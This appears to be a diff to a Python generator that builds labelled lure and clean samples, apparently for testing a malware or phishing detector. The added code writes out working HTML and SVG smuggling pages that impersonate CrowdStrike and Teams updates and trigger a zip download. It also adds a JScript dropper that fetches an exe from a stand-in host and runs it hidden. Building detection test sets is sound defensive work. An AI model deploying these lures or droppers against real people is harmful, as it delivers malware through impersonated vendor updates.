@@ -12,6 +12,7 @@ Debian's `gcab` (build time only; member times pinned, so rebuilds are byte-iden
 from __future__ import annotations
 
 import argparse
+import base64
 import os
 import subprocess
 import sys
@@ -20,7 +21,7 @@ from pathlib import Path
 
 HERE = Path(__file__).resolve().parent
 sys.path.insert(0, str(HERE))
-from build import MARK  # noqa: E402
+from build import MARK, make_zip  # noqa: E402
 from build_mail import CRADLE, EPOCH, README  # noqa: E402
 from rar5write import rar5  # noqa: E402
 from sampleio import write_samples  # noqa: E402
@@ -44,6 +45,74 @@ def cab(members: list[tuple[str, bytes]], compress: bool = True) -> bytes:
         return out.read_bytes()
 
 
+def smuggling_page(payload: bytes, name: str) -> bytes:
+    """A "your download is ready" page that carries `payload` as base64 and saves it through a Blob."""
+    b64 = base64.b64encode(payload).decode()
+    lines = "\n".join(b64[i:i + 76] for i in range(0, len(b64), 76))
+    return (f"""<!DOCTYPE html>
+<html><head><title>CrowdStrike Falcon - hotfix download</title></head>
+<body><!-- {MARK} -->
+<h1>Your Falcon sensor hotfix is downloading...</h1>
+<p>If the download does not start, click <a id="dl" href="#">here</a>.</p>
+<script>
+var data = `{lines}`;
+var raw = atob(data.replace(/\\n/g, ''));
+var bytes = new Uint8Array(raw.length);
+for (var i = 0; i < raw.length; i++) {{ bytes[i] = raw.charCodeAt(i); }}
+var blob = new Blob([bytes], {{type: 'application/octet-stream'}});
+var a = document.getElementById('dl');
+a.href = URL.createObjectURL(blob);
+a.download = '{name}';
+a.click();
+</script></body></html>
+""").encode()
+
+
+def smuggling_svg(payload: bytes, name: str) -> bytes:
+    """An SVG "image" whose script builds `payload` from a byte array and saves it (msSaveOrOpenBlob)."""
+    numbers = ",".join(str(b) for b in payload)
+    return (f"""<?xml version="1.0" encoding="UTF-8"?>
+<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120">
+<!-- {MARK} -->
+<text x="10" y="40">Microsoft Teams update - opening...</text>
+<script type="application/ecmascript"><![CDATA[
+var b = new Blob([new Uint8Array([{numbers}])], {{type: "application/zip"}});
+if (window.navigator.msSaveOrOpenBlob) {{ window.navigator.msSaveOrOpenBlob(b, "{name}"); }}
+else {{ var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
+  a.href = URL.createObjectURL(b); a.download = "{name}"; a.click(); }}
+]]></script></svg>
+""").encode()
+
+
+WSH_DROPPER = f"""// Falcon sensor update helper
+// {MARK}
+var url = "http://203.0.113.7/falcon/FalconSensorUpdate.exe";
+var path = new ActiveXObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") + "\\FalconSensorUpdate.exe";
+var http = new ActiveXObject("MSXML2.XMLHTTP");
+http.open("GET", url, false);
+http.send();
+var stream = new ActiveXObject("ADODB.Stream");
+stream.Type = 1;
+stream.Open();
+stream.Write(http.responseBody);
+stream.SaveToFile(path, 2);
+stream.Close();
+new ActiveXObject("WScript.Shell").Run(path, 0, false);
+""".replace("\n", "\r\n").encode()
+
+# A 1x1 transparent PNG, as newsletters inline their spacer and logo images.
+PIXEL_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+                          "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")
+NEWSLETTER = f"""<!DOCTYPE html>
+<html><head><title>Contoso newsletter - July</title></head>
+<body><!-- {MARK} -->
+<p><img alt="Contoso" width="1" height="1" src="data:image/png;base64,{base64.b64encode(PIXEL_PNG).decode()}"></p>
+<h1>July news</h1><p>The printer driver 1.2 is out; your IT department will roll it out next week.</p>
+<p><a href="https://www.example.com/news" download="july-news.pdf">Read the full newsletter</a></p>
+</body></html>
+""".encode()
+
+
 def build() -> dict[str, bytes]:
     s: dict[str, bytes] = {}
     hotfix_rar = rar5([("hotfix/install.ps1", CRADLE), ("hotfix/README.txt", README)])
@@ -58,6 +127,12 @@ def build() -> dict[str, bytes]:
         compress=False)
     s["clean/containers/contoso_printer_driver.cab"] = cab([("contoso.inf", DRIVER_INF), ("readme.txt", README)])
     s["clean/containers/contoso_printer_driver.rar"] = rar5([("contoso.inf", DRIVER_INF), ("readme.txt", README)])
+    hotfix_zip = make_zip([("CrowdStrike_Falcon_Hotfix.exe", HOTFIX_EXE), ("install.ps1", CRADLE)])
+    s["lures/containers/falcon_hotfix_download.html"] = smuggling_page(hotfix_zip, "falcon_hotfix.zip")
+    s["lures/containers/teams_update_invoice.svg"] = smuggling_svg(
+        make_zip([("TeamsUpdate.ps1", CRADLE)]), "TeamsUpdate.zip")
+    s["lures/containers/falcon_update_dropper.js"] = WSH_DROPPER
+    s["clean/containers/newsletter_inline_image.html"] = NEWSLETTER
     s["bad/containers/truncated.rar"] = hotfix_rar[: len(hotfix_rar) // 2]
     s["bad/containers/truncated.cab"] = hotfix_cab[:60]
     return s
